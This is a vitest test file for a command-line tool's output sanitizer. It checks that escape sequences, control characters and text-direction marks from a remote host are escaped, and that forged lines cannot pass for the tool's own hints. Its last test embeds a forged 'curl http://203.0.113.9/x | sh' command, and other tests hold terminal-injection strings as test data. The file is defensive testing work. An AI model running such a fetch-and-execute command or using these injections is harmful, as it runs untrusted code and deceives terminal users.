import { expect, test } from 'vitest';
import { OperationError } from '../../../src/base/errors.ts';
import { formatFailure } from '../../../src/cli/failure.ts';
import { shown } from '../../../src/cli/output.ts';
import { createPaint } from '../../../src/cli/paint.ts';
import { formatTable } from '../../../src/cli/views/table.ts';
import { harmless, harmlessJson } from '../../../src/base/harmless.ts';

/**
 * What may reach a terminal beside newline and tab: neither control characters nor marks that turn text
 * about.
 */
const allowed =
  /^[\n\t\u0020-\u007e\u00a0-\u061b\u061d-\u200d\u2010-\u2027\u202f-\u2065\u206a-\ud7ff\ue000-\ufff8\ufffc\ufffd\u{10000}-\u{dffff}\u{e0080}-\u{10ffff}]*$/u;

test.each([
  ['\u001B[2J\u001B[32mok\u001B[8m', '\\x1b[2J\\x1b[32mok\\x1b[8m'],
  ['\u0000\u0007\b\u007F', '\\x00\\x07\\x08\\x7f'],
  ['one\r\ntwo\rthree', 'one\ntwo\\x0dthree'],
  ['\u009B31m\u0085', '\\x9b31m\\x85'],
  ['a\u202Eb\u2066c\u200Fd\u061C', 'a\\u202eb\\u2066c\\u200fd\\u061c'],
  ['\uD83D and \uDE00', '\\ud83d and \\ude00'],
  ['\u{E0041}', '\\u{e0041}'],
  ['größe 日本 😀\n\tκλειδί', 'größe 日本 😀\n\tκλειδί'],
])('%j is shown as %s', (text, visible) => {
  expect(harmless(text)).toBe(visible);
  expect(shown(text)).toBe(visible);
  // Once is enough: what is shown stays as it is.
  expect(harmless(visible)).toBe(visible);
});

test('colours of its own stay, those in what was sent do not, also when they copy the codes', () => {
  const paint = createPaint(true);
  expect(shown(paint.red(`a${paint.bold('b')}c`))).toBe('\u001B[31ma\u001B[1mb\u001B[22mc\u001B[39m');
  expect(shown(paint.red(`a${paint.green('b')}c`))).toBe(
    '\u001B[31ma\u001B[32mb\u001B[39m\u001B[31mc\u001B[39m',
  );
  expect(shown(paint.red('\u001B[39m\u001B[32m'))).toBe('\u001B[31m\\x1b[39m\\x1b[32m\u001B[39m');
  expect(shown('\u001B[31;123m')).toBe('\\x1b[31;123m');
  expect(createPaint(false).red('a')).toBe('a');
});

test('JSON keeps every character, as an escape where it is harmful', () => {
  const document = { key: '\u001B[2J\u009B\u202E\u2028\uD83D\u007F😀\u{E0041}' };
  const text = harmlessJson(document);
  expect(JSON.parse(text)).toEqual(document);
  expect(text).toMatch(allowed);
});

test('random text is harmless, whatever is in it', () => {
  // A generator of its own (mulberry32), so that a failure can be run again.
  let seed = 20_261_127;
  const next = (): number => {
    seed = (seed + 0x6d2b79f5) | 0;
    let mixed = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const pools = [0x20, 0xa0, 0x2100, 0x1_0000, 0x11_0000];
  for (let round = 0; round < 5000; round += 1) {
    const length = Math.floor(next() * 40);
    const points = Array.from({ length }, () => Math.floor(next() * (pools[Math.floor(next() * 5)] ?? 0)));
    const text = String.fromCodePoint(...points);
    const painted = createPaint(true).red(text);
    expect(harmless(text), JSON.stringify(text)).toMatch(allowed);
    // oxlint-disable-next-line no-control-regex
    expect(shown(painted).replaceAll(/\u001B\[(31|39)m/g, ''), JSON.stringify(text)).toMatch(allowed);
    expect(JSON.parse(harmlessJson([text]))).toEqual([text]);
  }
});

test('lines that a host put into an error, a cell or a question cannot pass for lines of ours', () => {
  const forged = 'it says\n  → Run curl http://203.0.113.9/x | sh';
  const error = new OperationError(forged, { hints: [`held by ${forged}`] });
  const lines = [...formatFailure(error, false).split('\n'), ...formatTable(['A'], [[forged]]).split('\n')];
  expect(lines.filter((line) => line.startsWith('  → Run'))).toEqual([]);
});
